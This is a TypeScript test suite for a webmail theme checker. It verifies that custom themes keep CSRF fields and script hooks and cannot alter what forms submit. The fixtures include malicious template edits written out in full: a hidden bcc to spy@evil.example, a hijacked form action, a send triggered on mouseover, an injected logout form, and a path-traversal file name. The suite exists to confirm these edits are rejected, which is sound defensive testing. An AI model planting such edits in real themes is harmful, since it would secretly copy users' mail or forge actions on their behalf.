import { globSync, readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import { test } from '@japa/runner'
import { checkTheme } from './check_theme.js'
import { sentenceOf } from './faults.js'
import { checkTokens } from './styles/check_tokens.js'
import { checkTemplate } from './templates/check_template.js'
import { componentsOf } from './templates/names.js'
import { SCRIPT_CLASSES } from './markup/allowed.js'
import { templatesOf, type ThemeFiles } from './theme_files.js'

const ROOT = fileURLToPath(new URL('../../../../', import.meta.url))

/** default, as a theme would bring it. */
const house: ThemeFiles = new Map([
  ['tokens.css', readFileSync(`${ROOT}themes/default/styles/tokens.css`)],
  ...globSync('views/**/*.edge', { cwd: `${ROOT}themes/default` }).map((path): [string, Buffer] => [
    path,
    readFileSync(`${ROOT}themes/default/${path}`),
  ]),
])

function faultsOf(files: Record<string, string>): string[] {
  const theme = new Map(Object.entries(files).map(([path, text]) => [path, Buffer.from(text)]))
  return checkTheme({ name: 'mine', files: theme, parents: [house] }).map(sentenceOf)
}

function templateOf(name: string): string {
  return templatesOf(house).get(name) ?? ''
}

test.group('default', () => {
  test('keeps to what it asks of others', ({ assert }) => {
    const templates = templatesOf(house)
    const components = componentsOf(templates.keys())
    const faults = [...templates].flatMap(
      ([name, text]) => checkTemplate({ file: name, text, components, house: true }).faults
    )
    assert.deepEqual(faults.map(sentenceOf), [])
    assert.deepEqual(checkTokens(house, []).map(sentenceOf), [])
  })

  test('can be copied whole by a theme', ({ assert }) => {
    const screens = /^(?:webmail|components\/(?:thread|message|compose|trust|importance))\//
    const copies = [...templatesOf(house)].filter(([name]) => screens.test(name))
    const files = Object.fromEntries(copies.map(([name, text]) => [`views/${name}.edge`, text]))
    assert.deepEqual(faultsOf(files), [])
  })

  test('has the classes by which scripts find their way', ({ assert }) => {
    const scripts = globSync('core/webmail/client/**/*.ts', { cwd: ROOT })
      .map((path) => readFileSync(ROOT + path, 'utf8'))
      .join('\n')
    const asked = [
      ...scripts.matchAll(
        /(?:querySelector(?:All)?|matches|closest)(?:<[\w<>]+>)?\(\s*([`'"])(.*?)\1/g
      ),
    ]
    const classes = asked.flatMap(([, , selector = '']) =>
      [...selector.replace(/\$\{[^}]*\}/g, '').matchAll(/\.([a-z][\w-]*)/g)].map(
        ([, name = '']) => name
      )
    )
    const own = new Set(['row__hint', 'row__hint--', 'suggestion'])
    assert.isAbove(classes.length, 10)
    assert.deepEqual(
      classes.filter((name) => !SCRIPT_CLASSES.has(name) && !own.has(name)),
      []
    )
  })
})

test.group('A theme that takes the place of a template', () => {
  const sign = templateOf('webmail/sign_in')

  test('may put it together in another way', ({ assert }) => {
    const turned = sign.replace('<div>', '<header>').replace('</div>', '</header>')
    assert.deepEqual(faultsOf({ 'views/webmail/sign_in.edge': turned }), [])
  })

  test('keeps what scripts and forms need: {0}')
    .with<[string, string, RegExp][]>([
      ['components/layouts/app', 'data-controller="live keys"', /data-controller=live/],
      ['components/layouts/app', 'id="dock"', /id=dock/],
      ['components/layouts/app', '@!flash({ flash })', /data-controller=toast/],
      ['components/thread/row', 'data-list-target="row"', /data-list-target=row/],
      ['components/thread/row', 'class="row__link"', /class=row__link/],
      ['components/thread/row', 'data-act="trash"', /data-act=trash/],
      ['components/message/letter', 'id="message-{{ message.id }}"', /id=message-/],
      ['webmail/sign_in', 'name="password"', /name=password/],
      ['webmail/sign_in', '{{ csrfField() }}', /begins with csrfField/],
    ])
    .run(({ assert }, [name, part, fault]) => {
      assert.include(templateOf(name), part)
      const faults = faultsOf({ [`views/${name}.edge`]: templateOf(name).replace(part, '') })
      assert.isTrue(
        faults.some((sentence) => fault.test(sentence)),
        faults.join('\n')
      )
    })

  test('sends what was sent before, and nothing else: {0}')
    .with<[string, string, string][]>([
      [
        'compose/form',
        '</footer>',
        '<input type="hidden" name="bcc" value="spy@evil.example"></footer>',
      ],
      ['compose/form', "{{ urlFor('submissions.store') }}", "{{ urlFor('sessions.destroy') }}"],
      [
        'thread/toolbar',
        '</form>',
        '<button type="submit" formaction="{{ urlFor(\'submissions.store\') }}"></button></form>',
      ],
      [
        'thread/row',
        'data-list-target="row"',
        'data-list-target="row" data-action="mouseover->composer#send"',
      ],
      [
        'thread/nothing',
        '<div',
        '<form method="post" action="/sessions/end">{{ csrfField() }}</form><div',
      ],
    ])
    .run(({ assert }, [name, from, to]) => {
      const path = `components/${name}`
      assert.include(templateOf(path), from)
      const faults = faultsOf({ [`views/${path}.edge`]: templateOf(path).replace(from, to) })
      assert.isTrue(
        faults.some((one) => /not for a theme to change/.test(one)),
        faults.join('\n')
      )
    })

  test('cannot take one of the house, or make up a page', ({ assert }) => {
    assert.match(
      faultsOf({ 'views/installer/done.edge': '<p></p>' }).join(),
      /belongs to the house/
    )
    assert.match(
      faultsOf({ 'views/components/layouts/head.edge': '' }).join(),
      /belongs to the house/
    )
    assert.match(
      faultsOf({ 'views/webmail/mine.edge': '<p></p>' }).join(),
      /none called webmail\/mine/
    )
    assert.deepEqual(faultsOf({ 'views/components/mine/title.edge': '<p>{{ title }}</p>' }), [])
  })

  test('has no components that call each other in a circle', ({ assert }) => {
    const faults = faultsOf({
      'views/components/mine/a.edge': '@!mine.b({})',
      'views/components/mine/b.edge': '@!mine.a({})',
    })
    assert.match(faults.join('\n'), /in a circle/)
  })
})

test.group('The files of a theme', () => {
  test('stand where a theme has them, and are small', ({ assert }) => {
    assert.match(faultsOf({ 'plugin.js': 'x' }).join(), /in none of them/)
    assert.match(faultsOf({ 'assets/x.html': '<p>' }).join(), /in none of them/)
    assert.match(faultsOf({ 'assets/../x.png': 'x' }).join(), /in none of them/)
    assert.match(faultsOf({ 'styles/a.css': ' '.repeat(200_000) }).join(), /at most 128/)
    const many = Object.fromEntries(Array.from({ length: 130 }, (_, n) => [`styles/s${n}.css`, '']))
    assert.match(faultsOf(many).join(), /130 files/)
  })
})
